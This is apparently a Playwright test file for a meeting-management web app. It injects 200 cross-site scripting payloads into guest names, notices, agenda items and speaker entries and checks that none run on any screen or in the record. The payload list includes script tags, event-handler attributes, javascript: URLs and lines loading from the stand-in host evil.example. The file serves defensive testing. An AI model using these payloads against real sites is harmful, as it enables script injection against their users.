"""A9 in a real browser: two hundred texts that are meant to run, on every screen and in the record. None runs."""

from __future__ import annotations

from itertools import product

import pytest
from playwright.async_api import Page

from nameplate.meeting.notices import SendNotice
from nameplate.meeting.programme.programme_changes import AddItem, ReplaceSpeaker
from nameplate.meeting.speakers_list.desk_inscriptions import AddInscription
from tests.audiences import PAGES
from tests.journeys.browser import chromium
from tests.serving import Hosted

pytestmark = pytest.mark.journey

RUN = (
    *("<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT >", "<script src=//evil.example/x></script>"),
    *("<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>"),
    *("<iframe src='javascript:alert(1)'>", "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>"),
    *("<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>", "<details open ontoggle=alert(1)>"),
    *("<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>"),
    *(
        "<math><a xlink:href='javascript:alert(1)'>x",
        "<style>@import '//evil.example'</style>",
        "<base href=//evil.example>",
    ),
    *("<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>"),
    *("<hx-partial hx-target=body><img src=x onerror=alert(1)></hx-partial>", "<p hx-get=/x hx-trigger=load>"),
    *("<template><script>alert(1)</script></template>", "<marquee onstart=alert(1)>"),
)
"""Markup that runs, loads or moves something as soon as a browser takes it for markup."""
LEAVE = ("", '">', "'>", "</title>", "</textarea></style></script>", "-->", "]]>", "x' y=z>")
"""What ends the place in which a text may stand: an attribute, an element, a comment."""
TEXTS = [end + run for end, run in product(LEAVE, RUN)]
SHOWS = "text => document.body.textContent.includes(text)"
FEW = 25
"""Texts at a time. A page does not show thousands of lines of the list."""


def test_there_are_two_hundred_texts() -> None:
    assert len(set(TEXTS)) == len(LEAVE) * len(RUN) >= 200


async def test_two_hundred_texts_run_on_no_screen_and_in_no_record(floor: Hosted) -> None:
    """All guests, groups, notes, notices, items and speakers have such a text. The screens also get them as frames."""
    done = list[str]()
    async with chromium() as browser:
        pages = dict[str, Page]()
        for name in PAGES:
            page = await (await browser.new_context()).new_page()
            page.on("dialog", lambda dialog: done.append(f"dialog: {dialog.message}"))
            page.on("request", lambda request: done.append(request.url) if "evil.example" in request.url else None)
            page.on("framenavigated", lambda frame: done.append(frame.url) if frame.parent_frame else None)
            await page.goto(f"{floor.host.url}/in/{floor.links['chair']}")
            await page.goto(f"{floor.url}/{name}?as=chair")
            pages[name] = page
        usual = {name: await elements(page) for name, page in pages.items()}
        for begin in range(0, len(TEXTS), FEW):
            some = TEXTS[begin : begin + FEW]
            await floor.chair(*(AddInscription(guest=text, on_behalf_of=text) for text in some))
            few = some[:: FEW // 5]
            for text in few:
                await floor.chair(AddItem("break", text, 5), ReplaceSpeaker("p-13", text, text))
                await floor.chair(SendNotice("hall", text))
            for name, page in pages.items():
                if name not in WITHOUT_NOTICES:
                    await page.wait_for_function(SHOWS, arg=few[-1])
        await floor.post("delegate:FR", "request-floor", {"form": "question", "note": TEXTS[0]})
        await floor.post("delegate:KE", "raise-point-of-order", {"note": TEXTS[-1]})
        for name, page in pages.items():
            assert not await elements(page) - usual[name], name
            await page.goto(f"{floor.url}/{name}?as=chair")
            assert not await elements(page) - usual[name], name
        await pages["desk"].goto(f"{floor.url}/record.html?as=chair")
        assert TEXTS[0] in await pages["desk"].inner_text("body")
    assert done == []


async def elements(page: Page) -> set[str]:
    """The names of elements and attributes that no text may add."""
    found: list[str] = await page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(element => [
            element.localName, ...element.getAttributeNames().filter(name => name.startsWith('on') || name === 'y'),
        ])"""
    )
    return set(found) & FORBIDDEN


WITHOUT_NOTICES = ("podium", "timer", "air", "booth", "lobby", "public")
"""Screens that show no message to the hall, and no programme or only its next items."""

FORBIDDEN = {
    *("script", "img", "iframe", "object", "embed", "video", "math", "base", "hx-partial", "template", "marquee"),
    *("onerror", "onload", "ontoggle", "onfocus", "onstart", "y"),
}
"""Elements and attributes of the texts. A page may have some of them by itself."""
